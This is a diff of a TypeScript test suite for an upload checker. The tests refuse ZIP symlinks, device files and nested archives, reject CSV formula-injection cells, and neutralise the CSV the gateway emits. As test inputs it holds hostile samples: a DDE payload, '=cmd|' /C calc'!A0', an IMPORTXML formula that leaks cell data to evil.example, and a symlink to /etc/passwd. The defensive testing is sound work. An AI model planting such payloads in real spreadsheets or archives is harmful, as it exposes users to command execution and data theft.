@@ -1,12 +1,19 @@
+import { gzipSync } from "node:zlib";
+import { parse } from "csv-parse/sync";
 import { Zip, ZipDeflate } from "fflate";
 import { beforeAll, describe, expect, it } from "vitest";
 import {
+  BATCH_FILE_LIMITS,
   type BatchFileRules,
   type BatchFileSummary,
   checkBatchFile,
-  DTM_BATCH_FILE_LIMITS,
+  CsvNeutraliser,
+  neutraliseCsv,
+  neutraliseCsvCell,
 } from "../../src/batch-file/check.js";
 import { type BatchFileProblem, InvalidBatchFileError } from "../../src/model/errors.js";
+import type { EnrollmentField } from "../../src/model/iot/profile.js";
+import { iotBatchFileRules } from "../../src/resolvers/iot-batch.js";
 import { generateCsr, tamperedCsr } from "../helpers/pki.js";
 
 // Every key and CSR is generated at test time; every file is built in memory (large ones chunk by chunk).
@@ -24,7 +31,7 @@ const CLIENT_SIDE: BatchFileRules = {
   ],
   multipleColumns: new Set(["subject.organization_unit", "san.dns_name"]),
   serverSideKeyGeneration: false,
-  ...DTM_BATCH_FILE_LIMITS,
+  ...BATCH_FILE_LIMITS,
 };
 const SERVER_SIDE: BatchFileRules = {
   ...CLIENT_SIDE,
@@ -549,5 +556,501 @@ describe("checkBatchFile on a ZIP", () => {
     expect(await problemsOf(fileOf(bzip2), CLIENT_SIDE)).toEqual([
       expect.objectContaining({ entry: "device.csr", message: expect.stringMatching(/cannot be read/) }),
     ]);
+  });
+});
+
+// ---------------------------------------------------------------------------------------------
+// ZIP entries that are not regular files, nested archives, formula cells, and CSV the gateway emits
+// ---------------------------------------------------------------------------------------------
+
+/** Unix file types, shifted into a ZIP's external attributes as Info-ZIP writes them. */
+const UNIX = {
+  file: 0o100644,
+  directory: 0o040755,
+  link: 0o120777,
+  characterDevice: 0o020644,
+  blockDevice: 0o060644,
+  fifo: 0o010644,
+  socket: 0o140755,
+};
+const attributes = (mode: number, dos = 0) => ((mode << 16) | dos) >>> 0;
+
+interface Entry {
+  name: string;
+  data: string | Uint8Array;
+  /** External attributes; made by Unix (os 3) when given. */
+  attrs?: number;
+}
+
+/** A ZIP built with fflate's streaming Zip, each entry with its own external attributes (names may repeat). */
+function zipEntries(entries: readonly Entry[]): Buffer {
+  const chunks: Uint8Array[] = [];
+  const zip = new Zip((error, data) => {
+    if (error) throw error;
+    chunks.push(data);
+  });
+  for (const { name, data, attrs } of entries) {
+    const entry = new ZipDeflate(name, { level: 6 });
+    if (attrs !== undefined) Object.assign(entry, { attrs, os: 3 });
+    zip.add(entry);
+    entry.push(typeof data === "string" ? Buffer.from(data) : data, true);
+  }
+  zip.end();
+  return Buffer.concat(chunks);
+}
+
+/** The file as the gateway has it: a Blob (random access through slice). */
+function blobOf(data: Uint8Array): Blob {
+  return new Blob([new Uint8Array(data)]);
+}
+
+/** Offset of the central directory record of the `index`th entry (from 0). */
+function centralRecord(zip: Buffer, index: number): number {
+  let at = zip.readUInt32LE(zip.length - 22 + 16);
+  for (let i = 0; i < index; i += 1) {
+    at += 46 + zip.readUInt16LE(at + 28) + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32);
+  }
+  expect(zip.readUInt32LE(at)).toBe(0x02014b50);
+  return at;
+}
+
+describe("ZIP entries that are not regular files", () => {
+  it("refuses a symbolic link by name, read from the external attributes' Unix mode, even one named like a CSR", async () => {
+    const zip = zipEntries([
+      { name: "device-1.csr", data: csrs[0]!, attrs: attributes(UNIX.file) },
+      { name: "device-2.csr", data: "/etc/passwd", attrs: attributes(UNIX.link) },
+    ]);
+    expect(await problemsOf(blobOf(zip), CLIENT_SIDE)).toEqual([
+      {
+        row: null,
+        column: null,
+        entry: "device-2.csr",
+        message:
+          "The entry is a symbolic link; only regular files are accepted (a link can point outside the archive).",
+      },
+    ]);
+  });
+
+  it("refuses a directory posing as a file, device files, a FIFO and a socket, each by name with its reason", async () => {
+    const zip = zipEntries([
+      { name: "a-directory.csr", data: "", attrs: attributes(UNIX.directory, 0x10) },
+      { name: "b-dos-directory.csr", data: "", attrs: 0x10 },
+      { name: "c-character.csr", data: "", attrs: attributes(UNIX.characterDevice) },
+      { name: "d-block.csr", data: "", attrs: attributes(UNIX.blockDevice) },
+      { name: "e-fifo.csr", data: "", attrs: attributes(UNIX.fifo) },
+      { name: "f-socket.csr", data: "", attrs: attributes(UNIX.socket) },
+      { name: "g-whiteout.csr", data: "", attrs: attributes(0o160000) },
+      { name: "h-fine.csr", data: csrs[0]!, attrs: attributes(UNIX.file) },
+    ]);
+    const problems = await problemsOf(blobOf(zip), CLIENT_SIDE);
+    expect(problems.map(({ entry, message }) => [entry, message])).toEqual([
+      [
+        "a-directory.csr",
+        "The entry is a directory, though its name does not end in /; only regular files are accepted.",
+      ],
+      [
+        "b-dos-directory.csr",
+        "The entry is a directory, though its name does not end in /; only regular files are accepted.",
+      ],
+      ["c-character.csr", "The entry is a device file (character device); only regular files are accepted."],
+      ["d-block.csr", "The entry is a device file (block device); only regular files are accepted."],
+      ["e-fifo.csr", "The entry is a named pipe (FIFO); only regular files are accepted."],
+      ["f-socket.csr", "The entry is a socket; only regular files are accepted."],
+      [
+        "g-whiteout.csr",
+        "The entry is not a regular file (Unix file type 0o160000); only regular files are accepted.",
+      ],
+    ]);
+  });
+
+  it("refuses a symbolic link even where entries are skipped (a dot-file, __MACOSX/, a directory name)", async () => {
+    const zip = zipEntries([
+      { name: "devices/", data: "", attrs: attributes(UNIX.link) },
+      { name: "__MACOSX/._device.csr", data: "x", attrs: attributes(UNIX.link) },
+      { name: ".hidden", data: "x", attrs: attributes(UNIX.link) },
+      { name: "device.csr", data: csrs[0]! },
+    ]);
+    const problems = await problemsOf(blobOf(zip), CLIENT_SIDE);
+    expect(problems.map((each) => each.entry)).toEqual([".hidden", "__MACOSX/._device.csr", "devices/"]);
+    for (const each of problems) expect(each.message).toMatch(/^The entry is a symbolic link/);
+  });
+
+  it("accepts regular files and directories whatever the archiver recorded: a Unix mode, DOS attributes, or none", async () => {
+    const zip = zipEntries([
+      { name: "devices/", data: "", attrs: attributes(UNIX.directory, 0x10) },
+      { name: "devices/unix.csr", data: csrs[0]!, attrs: attributes(UNIX.file) },
+      { name: "devices/dos-archive-bit.csr", data: csrs[1]!, attrs: 0x20 },
+      { name: "devices/none.csr", data: csrs[2]!, attrs: 0 },
+      { name: "win/", data: "", attrs: 0x10 },
+    ]);
+    await expect(checkBatchFile(blobOf(zip), CLIENT_SIDE)).resolves.toEqual({ format: "ZIP", rows: 3 });
+  });
+
+  it("reads the central directory by range from a Blob, and from a source without slice by streaming, alike", async () => {
+    const zip = zipEntries([
+      { name: "devices.csv", data: clientCsv(csrs.slice(0, 2)), attrs: attributes(UNIX.file) },
+      { name: "link.csv", data: "devices.csv", attrs: attributes(UNIX.link) },
+    ]);
+    const sliced = await problemsOf(blobOf(zip), CLIENT_SIDE);
+    expect(sliced).toEqual([expect.objectContaining({ entry: "link.csv" })]);
+    expect(await problemsOf(fileOf(zip, 7), CLIENT_SIDE)).toEqual(sliced);
+  });
+
+  it("reads the central directory past a ZIP comment", async () => {
+    const zip = zipEntries([{ name: "device.csr", data: csrs[0]!, attrs: attributes(UNIX.link) }]);
+    const comment = Buffer.from("made by a tool that writes comments");
+    const commented = Buffer.concat([zip, comment]);
+    commented.writeUInt16LE(comment.length, zip.length - 2);
+    expect((await problemsOf(blobOf(commented), CLIENT_SIDE))[0]?.message).toMatch(/symbolic link/);
+  });
+
+  it("refuses an entry its central directory does not list, and one it lists that the archive does not hold", async () => {
+    const zip = zipEntries([
+      { name: "device-1.csr", data: csrs[0]! },
+      { name: "device-2.csr", data: csrs[1]! },
+    ]);
+    // The index names the second entry device-3.csr: a reader of the index and a reader of the entries disagree.
+    const at = centralRecord(zip, 1);
+    zip.write("device-3.csr", at + 46, "latin1");
+    const problems = await problemsOf(blobOf(zip), CLIENT_SIDE);
+    expect(problems.map(({ entry, message }) => [entry, message])).toEqual([
+      [
+        "device-2.csr",
+        "The entry is not listed in the ZIP's central directory (its index): ZIP readers would disagree on what the ZIP holds.",
+      ],
+      [
+        "device-3.csr",
+        "The ZIP's central directory (its index) lists this entry, but the archive holds no such entry: ZIP readers would disagree on what it holds.",
+      ],
+    ]);
+  });
+
+  it("refuses two entries with the same name, once", async () => {
+    const zip = zipEntries([
+      { name: "device.csr", data: csrs[0]! },
+      { name: "device.csr", data: csrs[1]! },
+      { name: "other.csr", data: csrs[2]! },
+    ]);
+    expect(await problemsOf(blobOf(zip), CLIENT_SIDE)).toEqual([
+      {
+        row: null,
+        column: null,
+        entry: "device.csr",
+        message: "The ZIP holds 2 entries with this name; each entry needs a name of its own.",
+      },
+    ]);
+  });
+
+  it("refuses an entry its central directory marks as encrypted, without inflating it", async () => {
+    const zip = zipEntries([
+      { name: "device-1.csr", data: csrs[0]! },
+      { name: "device-2.csr", data: csrs[1]! },
+    ]);
+    const at = centralRecord(zip, 1);
+    zip.writeUInt16LE(zip.readUInt16LE(at + 8) | 1, at + 8);
+    expect(await problemsOf(blobOf(zip), CLIENT_SIDE)).toEqual([
+      {
+        row: null,
+        column: null,
+        entry: "device-2.csr",
+        message: "The entry is encrypted; upload the ZIP without a password.",
+      },
+    ]);
+  });
+
+  it("refuses a ZIP whose central directory is missing, corrupt, or on another disk", async () => {
+    const zip = zipEntries([{ name: "device.csr", data: csrs[0]! }]);
+    const noIndex = Buffer.from(zip);
+    noIndex.writeUInt32LE(0, noIndex.length - 22);
+    const badRecord = Buffer.from(zip);
+    badRecord.writeUInt32LE(0x12345678, centralRecord(zip, 0));
+    const spanned = Buffer.from(zip);
+    spanned.writeUInt16LE(1, spanned.length - 22 + 4);
+    for (const broken of [noIndex, badRecord]) {
+      expect(await problemsOf(blobOf(broken), CLIENT_SIDE)).toEqual([
+        whole("The ZIP cannot be read: it is corrupt or truncated."),
+      ]);
+    }
+    expect(await problemsOf(blobOf(spanned), CLIENT_SIDE)).toEqual([
+      whole("The ZIP is split across several files (a multi-disk archive); upload it as one ZIP."),
+    ]);
+  });
+});
+
+describe("nested archives", () => {
+  it("refuses an entry named as an archive, naming it and its format", async () => {
+    const zip = zipEntries([
+      { name: "inner.zip", data: zipOf([["device.csr", csrs[0]!]]) },
+      { name: "more.tar.gz", data: "not even gzip" },
+      { name: "device.csr", data: csrs[1]! },
+    ]);
+    const problems = await problemsOf(blobOf(zip), CLIENT_SIDE);
+    expect(problems.map(({ entry, message }) => [entry, message])).toEqual([
+      [
+        "inner.zip",
+        "The entry is an archive (.zip, ZIP); nested archives are refused: put the CSV or CSR files in the uploaded ZIP itself.",
+      ],
+      [
+        "more.tar.gz",
+        "The entry is an archive (.gz, gzip); nested archives are refused: put the CSV or CSR files in the uploaded ZIP itself.",
+      ],
+    ]);
+  });
+
+  it("refuses a CSV or CSR entry whose first bytes are an archive's, whatever its name says", async () => {
+    const tar = Buffer.alloc(1024);
+    tar.write("device.csr", 0);
+    tar.write("ustar\u000000", 257, "latin1");
+    const sevenZip = Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4, 1, 2, 3, 4]);
+    const rar = Buffer.from("Rar!\u001a\u0007\u0001\u0000rest", "latin1");
+    const zip = zipEntries([
+      { name: "a.csr", data: zipOf([["device.csr", csrs[0]!]]) },
+      { name: "b.pem", data: gzipSync(Buffer.from(csrs[1]!)) },
+      { name: "c.req", data: tar },
+      { name: "d.p10", data: sevenZip },
+      { name: "e.csr", data: rar },
+    ]);
+    const problems = await problemsOf(blobOf(zip), CLIENT_SIDE);
+    expect(
+      problems.map(({ entry, message }) => [entry, /^The entry is an archive \((.+?)\)/.exec(message)?.[1]]),
+    ).toEqual([
+      ["a.csr", "ZIP"],
+      ["b.pem", "gzip"],
+      ["c.req", "tar"],
+      ["d.p10", "7-Zip"],
+      ["e.csr", "RAR"],
+    ]);
+    expect(problems[0]?.message).toMatch(/whatever its name says; nested archives are refused/);
+  });
+
+  it("refuses a ZIP whose one CSV is a gzip file, naming the entry and not reading it as a CSV", async () => {
+    const zip = zipEntries([
+      { name: "devices.csv", data: gzipSync(Buffer.from(clientCsv(csrs.slice(0, 2)))) },
+    ]);
+    expect(await problemsOf(blobOf(zip), CLIENT_SIDE)).toEqual([
+      {
+        row: null,
+        column: null,
+        entry: "devices.csv",
+        message:
+          "The entry is an archive (gzip), whatever its name says; nested archives are refused: put the CSV or CSR files in the uploaded ZIP itself.",
+      },
+    ]);
+  });
+
+  it("refuses a data file that is a gzip or 7-Zip archive rather than a CSV or a ZIP", async () => {
+    expect(await problemsOf(fileOf(gzipSync(Buffer.from(clientCsv()))), CLIENT_SIDE)).toEqual([
+      whole("The data file is an archive (gzip); upload a CSV, or a ZIP of one CSV or of CSR files."),
+    ]);
+    const sevenZip = Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]);
+    expect((await problemsOf(fileOf(sevenZip), CLIENT_SIDE))[0]?.message).toMatch(/archive \(7-Zip\)/);
+  });
+
+  it("sniffs an archive's signature even when the file arrives a few bytes at a time", async () => {
+    const tar = Buffer.alloc(1024);
+    tar.write("ustar\u000000", 257, "latin1");
+    expect(await problemsOf(fileOf(tar, 3), SERVER_SIDE)).toEqual([
+      whole("The data file is an archive (tar); upload a CSV, or a ZIP of one CSV or of CSR files."),
+    ]);
+  });
+});
+
+describe("cells a spreadsheet would run as a formula", () => {
+  const formula = (trigger: string) =>
+    `The cell starts with ${trigger}, which a spreadsheet would run as a formula (CSV injection); remove that character.`;
+
+  it("are refused with row and column: =, +, -, @, a tab, a carriage return", async () => {
+    const data = csv([
+      ["device_name", "subject.common_name", "device_description"],
+      ["device-1", "device-1.example.com", '=HYPERLINK("http://evil.example")'],
+      ["+device-2", "device-2.example.com", "fine"],
+      ["device-3", "-2+3+cmd|' /C calc'!A0", "fine"],
+      ["device-4", "device-4.example.com", "@SUM(1+1)"],
+      // Quoted (it has a comma): an unquoted cell's tab is trimmed, and the = behind it is found instead.
+      ["device-5", "device-5.example.com", "\t=1+1, tab first"],
+      ["device-6", "device-6.example.com", "\r=1+1"],
+      ["device-7", "device-7.example.com", "a - b = c, @ 10:00"],
+    ]);
+    expect(await problemsOf(fileOf(data), SERVER_SIDE)).toEqual([
+      { row: 1, column: "device_description", entry: null, message: formula('"="') },
+      { row: 2, column: "device_name", entry: null, message: formula('"+"') },
+      { row: 3, column: "subject.common_name", entry: null, message: formula('"-"') },
+      { row: 4, column: "device_description", entry: null, message: formula('"@"') },
+      { row: 5, column: "device_description", entry: null, message: formula("a tab") },
+      { row: 6, column: "device_description", entry: null, message: formula("a carriage return") },
+    ]);
+  });
+
+  it("are found past leading spaces, in a quoted cell as in an unquoted one", async () => {
+    const data = 'device_name,subject.common_name\n"  =1+1",d.example.com\n   @x   ,d.example.com\n';
+    const problems = await problemsOf(fileOf(data), SERVER_SIDE);
+    expect(problems.map(({ row, column }) => [row, column])).toEqual([
+      [1, "device_name"],
+      [2, "device_name"],
+    ]);
+  });
+
+  it("are allowed in the csr column only as the PEM's -----BEGIN; a csr cell with = is refused as a formula, not parsed", async () => {
+    await expect(checkBatchFile(fileOf(clientCsv(csrs.slice(0, 2))), CLIENT_SIDE)).resolves.toEqual({
+      format: "CSV",
+      rows: 2,
+    });
+    const pems = [csrs[0]!, '=IMPORTXML(CONCAT("http://evil.example/?", A1))'];
+    expect(await problemsOf(fileOf(clientCsv(pems)), CLIENT_SIDE)).toEqual([
+      { row: 2, column: "csr", entry: null, message: formula('"="') },
+    ]);
+  });
+
+  it("include negative numbers and +-prefixed values: no documented column is numeric", async () => {
+    const data = csv([
+      ["device_name", "subject.common_name", "device_description"],
+      ["device-1", "device-1.example.com", "-40"],
+      ["device-2", "device-2.example.com", "+44 20 7946 0000"],
+    ]);
+    const problems = await problemsOf(fileOf(data), SERVER_SIDE);
+    expect(problems.map(({ row, column }) => [row, column])).toEqual([
+      [1, "device_description"],
+      [2, "device_description"],
+    ]);
+  });
+
+  it("are refused in the header too", async () => {
+    const data = csv([
+      ["device_name", "subject.common_name", "=cmd|' /C calc'!A0"],
+      ["device-1", "device-1.example.com", "x"],
+    ]);
+    expect(await problemsOf(fileOf(data), { ...SERVER_SIDE, knownColumns: null })).toEqual([
+      whole(
+        'Header cell 3 starts with "=", which a spreadsheet would run as a formula; a column name cannot.',
+      ),
+    ]);
+  });
+
+  it("in a ZIP's CSV are named by entry, row and column", async () => {
+    const data = csv([
+      ["device_name", "subject.common_name"],
+      ["device-1", "device-1.example.com"],
+      ["@device-2", "device-2.example.com"],
+    ]);
+    expect(await problemsOf(blobOf(zipOf([["devices.csv", data]])), SERVER_SIDE)).toEqual([
+      { row: 2, column: "device_name", entry: "devices.csv", message: formula('"@"') },
+    ]);
+  });
+});
+
+describe("IoT's batch file rules, from the enrollment specification", () => {
+  const field = (id: string, name: string, multiple = false): EnrollmentField => ({
+    id,
+    name,
+    kind: id.startsWith("subject.") || id.startsWith("san.") ? "CERTIFICATE" : "DEVICE",
+    required: false,
+    multiple,
+    fixedValue: null,
+  });
+  const SITE = "97cb838e-b61f-4419-abbd-23a87b406676";
+  const FIELDS = [
+    field("subject.common_name", "Common name"),
+    field("san.dns_name", "DNS name", true),
+    field("DEVICE_IDENTIFIER", "Device identifier"),
+    field(SITE, "Site"),
+  ];
+
+  it("reads a header of field ids or names in any case, with a csr column client-side", async () => {
+    const data = csv([
+      ["CSR", "Common Name", "san.dns_name", "DNS name", "device_identifier", "Site"],
+      [csrs[0]!, "a.example.com", "a.example.com", "b.example.com", "A", "Plant 9"],
+    ]);
+    await expect(checkBatchFile(fileOf(data), iotBatchFileRules(FIELDS, false))).resolves.toEqual({
+      format: "CSV",
+      rows: 1,
+    });
+  });
+
+  it("refuses a field named twice, by id and by name; an unknown column; and a csr column server-side", async () => {
+    const twice = csv([
+      ["csr", "subject.common_name", "common name"],
+      [csrs[0]!, "a.example.com", "a.example.com"],
+    ]);
+    expect(await problemsOf(fileOf(twice), iotBatchFileRules(FIELDS, false))).toEqual([
+      {
+        row: null,
+        column: "subject.common_name",
+        entry: null,
+        message: "Header cells 2, 3 name the same column, which takes one value.",
+      },
+    ]);
+    const unknown = csv([
+      ["csr", "subject.common_name", "colour"],
+      [csrs[0]!, "a.example.com", "blue"],
+    ]);
+    expect((await problemsOf(fileOf(unknown), iotBatchFileRules(FIELDS, false)))[0]?.message).toMatch(
+      /^Header cell 3 names a column the template does not have/,
+    );
+    const serverSide = await problemsOf(fileOf(unknown), iotBatchFileRules(FIELDS, true));
+    expect(serverSide).toContainEqual(expect.objectContaining({ column: "csr" }));
+  });
+
+  it("names a formula cell's column as the header wrote it", async () => {
+    const data = csv([
+      ["csr", "subject.common_name", "Site"],
+      [csrs[0]!, "a.example.com", "=1+1"],
+    ]);
+    expect(await problemsOf(fileOf(data), iotBatchFileRules(FIELDS, false))).toEqual([
+      { row: 1, column: "site", entry: null, message: formula('"="') },
+    ]);
+  });
+
+  const formula = (trigger: string) =>
+    `The cell starts with ${trigger}, which a spreadsheet would run as a formula (CSV injection); remove that character.`;
+});
+
+describe("neutraliseCsv, for CSV the gateway emits", () => {
+  const TEMPLATE = '"device_name","device_description","subject.common_name","csr"\r\n';
+
+  it("leaves a safe CSV byte for byte as it was: quoting, spaces and line ends included", () => {
+    const safe = `${TEMPLATE}plain, spaced ,"quoted, with comma","say ""hi""",\r\n"multi\nline",x\n`;
+    expect(neutraliseCsv(safe)).toBe(safe);
+  });
+
+  it("prefixes a single quote to each cell starting with =, +, -, @, a tab or a carriage return, and quotes it", () => {
+    expect(neutraliseCsv('=1+1,+2,-3,@SUM(A1),"\t=x","\r=y",ok\n')).toBe(
+      `"'=1+1","'+2","'-3","'@SUM(A1)","'\t=x","'\r=y",ok\n`,
+    );
+    expect(neutraliseCsv('a,=HYPERLINK("http://evil.example"),"  =1"\r\n  -2,b')).toBe(
+      `a,"'=HYPERLINK(""http://evil.example"")","'  =1"\r\n"'  -2",b`,
+    );
+  });
+
+  it("reads back as the same cells, each formula one as text behind a single quote", () => {
+    const text = 'name,note\n=cmd|\' /C calc\'!A0,"-1, with comma"\n"@x",plain\n';
+    const cells = parse(neutraliseCsv(text)) as string[][];
+    expect(cells).toEqual([
+      ["name", "note"],
+      ["'=cmd|' /C calc'!A0", "'-1, with comma"],
+      ["'@x", "plain"],
+    ]);
+  });
+
+  it("is idempotent", () => {
+    const once = neutraliseCsv('=1,"+2",-3\n@4\n');
+    expect(neutraliseCsv(once)).toBe(once);
+  });
+
+  it("gives the same text whatever pieces a stream splits it into", () => {
+    const text = `${TEMPLATE}=1+1,"-2 ""q""",x\r\n  @a,"\tb","multi\n=line"\n+end`;
+    const whole = neutraliseCsv(text);
+    for (const size of [1, 2, 3, 5, 8, 13]) {
+      const neutraliser = new CsvNeutraliser();
+      let out = "";
+      for (let at = 0; at < text.length; at += size) out += neutraliser.push(text.slice(at, at + size));
+      expect(out + neutraliser.end()).toBe(whole);
+    }
+  });
+
+  it("neutraliseCsvCell makes one value a safe CSV field", () => {
+    expect(neutraliseCsvCell("=1+1")).toBe(`"'=1+1"`);
+    expect(neutraliseCsvCell('@a"b')).toBe(`"'@a""b"`);
+    expect(neutraliseCsvCell("a,b")).toBe('"a,b"');
+    expect(neutraliseCsvCell("plain")).toBe("plain");
   });
 });
